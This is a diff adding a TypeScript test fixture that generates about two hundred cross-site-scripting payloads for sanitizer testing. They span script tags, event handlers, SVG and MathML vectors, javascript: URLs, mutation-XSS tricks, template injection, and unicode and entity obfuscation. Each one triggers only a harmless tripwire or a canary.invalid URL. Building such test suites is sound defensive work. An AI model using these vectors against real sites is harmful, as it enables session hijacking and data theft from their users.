@@ -1,0 +1,192 @@
+/** Calls of the tripwire in many clothes. `N` is replaced by the number of the payload, so that what runs says who it was. */
+const HIT = '__hit(N)'
+const CANARY = 'https://canary.invalid/N'
+
+const scripts = [
+  `<script>${HIT}</script>`,
+  `<SCRIPT>${HIT}</SCRIPT>`,
+  `<script src="${CANARY}"></script>`,
+  `<script src=//canary.invalid/N></script>`,
+  `<script type=module>${HIT}</script>`,
+  `"><script>${HIT}</script>`,
+  `'><script>${HIT}</script>`,
+  `</textarea><script>${HIT}</script>`,
+  `</title><script>${HIT}</script>`,
+  `</style><script>${HIT}</script>`,
+  `</script><script>${HIT}</script>`,
+  `<scr<script>ipt>${HIT}</scr</script>ipt>`,
+  `<script/x>${HIT}</script>`,
+  `<script\n>${HIT}</script\n>`,
+  `<<script>${HIT}//<</script>`,
+  `<script>/*</script><script>*/${HIT}</script>`,
+  `<noscript><script>${HIT}</script></noscript>`,
+  `<template><script>${HIT}</script></template>`,
+  `<script nonce="">${HIT}</script>`,
+  `--><script>${HIT}</script>`,
+]
+const events = [
+  'onload',
+  'onerror',
+  'onfocus autofocus tabindex=1',
+  'onmouseover',
+  'onanimationstart',
+  'ontoggle open',
+  'onbegin',
+]
+const tags = [
+  'img src=x',
+  'svg',
+  'body',
+  'video src=x',
+  'input',
+  'details',
+  'iframe',
+  'object data=x',
+  'marquee',
+  'style',
+  'audio src=x',
+]
+const handlers = tags.flatMap((tag) =>
+  events.map((event) => `<${tag} ${event.replace(/^(\w+)/, `$1="${HIT}"`)}>`),
+)
+const vectors = [
+  `<svg><script>${HIT}</script></svg>`,
+  `<svg><animate onbegin=${HIT} attributeName=x dur=1s>`,
+  `<svg><set attributeName=href to=javascript:${HIT}>`,
+  `<svg><a xlink:href="javascript:${HIT}"><text y=20>x</text></a></svg>`,
+  `<svg><use href="data:image/svg+xml,<svg id=x onload=${HIT}>#x"/></svg>`,
+  `<svg><foreignObject><img src=x onerror=${HIT}></foreignObject></svg>`,
+  `<svg/onload=${HIT}>`,
+  `<math><mtext><img src=x onerror=${HIT}></mtext></math>`,
+  `<math href="javascript:${HIT}">x</math>`,
+]
+const addresses = [
+  `javascript:${HIT}`,
+  `JaVaScRiPt:${HIT}`,
+  `java\tscript:${HIT}`,
+  `java\nscript:${HIT}`,
+  `\u0001javascript:${HIT}`,
+  ` javascript:${HIT}`,
+  `javascript://%0a${HIT}`,
+  `javascript:/*https://*/${HIT}`,
+  `data:text/html,<script>${HIT}</script>`,
+  `data:text/html;base64,PHNjcmlwdD5fX2hpdChOKTwvc2NyaXB0Pg==`,
+  `vbscript:msgbox(N)`,
+  `https://example.com/"onmouseover="${HIT}`,
+  `https://example.com/'onclick='${HIT}`,
+  `https://example.com/<script>${HIT}</script>`,
+  `https://example.com/\`${HIT}\``,
+  `http://javascript:${HIT}@example.com/`,
+  `blob:https://example.com/${HIT}`,
+  `file:///etc/passwd#${HIT}`,
+]
+const mutations = [
+  `<noscript><p title="</noscript><img src=x onerror=${HIT}>">`,
+  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${HIT}&gt;">`,
+  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${HIT}>`,
+  `<svg></p><style><a id="</style><img src=1 onerror=${HIT}>">`,
+  `<a title="\`<img src=x onerror=${HIT}>\`">`,
+  `<xmp><img alt="</xmp><img src=x onerror=${HIT}>">`,
+  `<!--<img src="--><img src=x onerror=${HIT}//">`,
+  `<select><style></select><img src=x onerror=${HIT}></style>`,
+  `<textarea><img title="</textarea><img src=x onerror=${HIT}>">`,
+  `<![CDATA[><img src=x onerror=${HIT}>]]>`,
+]
+const templates = [
+  `{{constructor.constructor('${HIT}')()}}`,
+  `{{${HIT}}}`,
+  `\${${HIT}}`,
+  `<%= ${HIT} %>`,
+  `#{${HIT}}`,
+  `[[${HIT}]]`,
+  `{{= ${HIT} }}`,
+  `{%${HIT}%}`,
+  `$t(${HIT})`,
+  `{{name}}$t(errors.internal)<img src=x onerror=${HIT}>`,
+  `{"__html":"<img src=x onerror=${HIT}>"}`,
+  `{"type":"script","props":{"dangerouslySetInnerHTML":{"__html":"${HIT}"}}}`,
+  `__proto__[x]=<img src=x onerror=${HIT}>`,
+]
+const unicode = [
+  `＜script＞${HIT}＜/script＞`,
+  `<ſcript>${HIT}</ſcript>`,
+  `%3Cscript%3E${HIT}%3C/script%3E`,
+  `\\u003cscript\\u003e${HIT}\\u003c/script\\u003e`,
+  `\u202e<img src=x onerror=${HIT}>`,
+  `<img\u2028src=x\u2029onerror=${HIT}>`,
+  `<im\u0000g src=x onerror=${HIT}>`,
+  `+ADw-script+AD4-${HIT}+ADw-/script+AD4-`,
+  `<img src=x one\u200brror=${HIT}>`,
+  `<img/src=x/onerror=${HIT}\u00a0>`,
+]
+const styles = [
+  `<style>@import"${CANARY}"</style>`,
+  `<div style="background:url(${CANARY})">x</div>`,
+  `<div style="width:expression(${HIT})">`,
+  `<link rel=stylesheet href="${CANARY}">`,
+  `<link rel=preload as=image href="${CANARY}">`,
+  `<style>*{background:url(javascript:${HIT})}</style>`,
+  `</style><img src=x onerror=${HIT}>`,
+  `"style="background:url(${CANARY})`,
+  `<div style=behavior:url(${CANARY})>`,
+]
+const markdown = [
+  `[click](javascript:${HIT})`,
+  `![x](${CANARY})`,
+  `![x" onerror="${HIT}](x)`,
+  `[x]: javascript:${HIT}`,
+  `<javascript:${HIT}>`,
+  `[a](data:text/html,<script>${HIT}</script>)`,
+  `\`\`\`html\n<img src=x onerror=${HIT}>\n\`\`\``,
+  `**<img src=x onerror=${HIT}>**`,
+]
+const entities = [
+  `&lt;script&gt;${HIT}&lt;/script&gt;`,
+  `&#60;img src=x onerror=${HIT}&#62;`,
+  `&#x3c;svg onload=${HIT}&#x3e;`,
+  `<img src=x onerror=&#95;&#95;hit(N)>`,
+  `<a href="&#106;avascript:${HIT}">x</a>`,
+  `<a href="javascript&colon;${HIT}">x</a>`,
+  `&amp;lt;script&amp;gt;${HIT}`,
+  `<iframe srcdoc="&lt;img src=x onerror=parent.${HIT}&gt;">`,
+]
+const documents = [
+  `<iframe src="javascript:parent.${HIT}">`,
+  `<iframe src="${CANARY}"></iframe>`,
+  `<embed src="${CANARY}">`,
+  `<object data="javascript:${HIT}">`,
+  `<base href="https://canary.invalid/">`,
+  `<meta http-equiv=refresh content="0;url=${CANARY}">`,
+  `<form action="javascript:${HIT}"><button>x</button></form>`,
+  `<button formaction="javascript:${HIT}" form=f>x</button>`,
+  `<img src="${CANARY}">`,
+  `<img srcset="${CANARY} 1x">`,
+  `<picture><source srcset="${CANARY}"><img></picture>`,
+  `<video poster="${CANARY}"></video>`,
+  `<audio src="${CANARY}" autoplay></audio>`,
+  `<portal src="${CANARY}"></portal>`,
+  `<portal onload=${HIT}>`,
+  `<isindex action=javascript:${HIT} type=image>`,
+  `<table background="${CANARY}">`,
+  `<a href=javascript:${HIT} id=x autofocus onfocus=${HIT}>x</a>`,
+  `<dialog open onclose=${HIT}><form method=dialog><button autofocus>x</button></form></dialog>`,
+  `<x contenteditable onblur=${HIT} autofocus>x</x>`,
+]
+
+/** Two hundred, each unlike the others. */
+export const payloads: readonly string[] = [
+  ...scripts,
+  ...vectors,
+  ...addresses,
+  ...mutations,
+  ...templates,
+  ...unicode,
+  ...styles,
+  ...markdown,
+  ...entities,
+  ...documents,
+  ...handlers,
+]
+  .filter((payload, at, all) => all.indexOf(payload) === at)
+  .slice(0, 200)
+  .map((payload, at) => payload.replaceAll('N)', `${at + 1})`).replaceAll('/N', `/${at + 1}`))
